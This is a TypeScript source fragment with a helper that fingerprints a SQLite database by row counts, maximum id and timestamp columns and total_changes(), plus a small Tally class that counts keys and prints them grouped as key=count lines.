// ---- a cheap "was anything written" fingerprint ----

/**
 * A fingerprint of the database that changes with any write: per table the row
 * count and the largest id / revision / timestamp, plus SQLite's total_changes()
 * (every row inserted, updated or deleted on this connection, rolled back or not).
 * Costs one prepared statement per call, so it can run around every request.
 */
export function dbFingerprinter(db: Database.Database): () => string {
  const tables = db.prepare("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' ORDER BY name").pluck().all() as string[];
  const parts: string[] = ['total_changes()'];
  for (const t of tables) {
    const cols = (db.prepare(`PRAGMA table_info("${t}")`).all() as Array<{ name: string }>).map((c) => c.name);
    parts.push(`(SELECT count(*) FROM "${t}")`);
    for (const c of ['id', 'revision', 'updated_at', 'checked_at', 'created_at']) {
      if (cols.includes(c)) parts.push(`(SELECT max("${c}") FROM "${t}")`);
    }
  }
  const stmt = db.prepare(`SELECT json_array(${parts.join(', ')})`).pluck();
  return () => stmt.get() as string;
}

// ---- tallies ----

/** Counts by key, printed as `key=count` sorted by count. */
export class Tally {
  private readonly counts = new Map<string, number>();
  add(key: string, n = 1): void {
    this.counts.set(key, (this.counts.get(key) ?? 0) + n);
  }
  get(key: string): number {
    return this.counts.get(key) ?? 0;
  }
  keys(): string[] {
    return [...this.counts.keys()];
  }
  /** One line per dimension prefix (`body:`, `auth:` ...), or one line when keys have none. */
  lines(): string[] {
    const groups = new Map<string, Array<[string, number]>>();
    for (const [k, n] of this.counts) {
      const i = k.indexOf(':');
      const g = i > 0 ? k.slice(0, i) : '';
      (groups.get(g) ?? groups.set(g, []).get(g)!).push([i > 0 ? k.slice(i + 1) : k, n]);
    }
    return [...groups.entries()]
      .sort(([a], [b]) => a.localeCompare(b))
      .map(([g, entries]) => `${g ? `${g}: ` : ''}${entries.sort((a, b) => b[1] - a[1]).map(([k, n]) => `${k}=${n}`).join(' ')}`);
  }
}
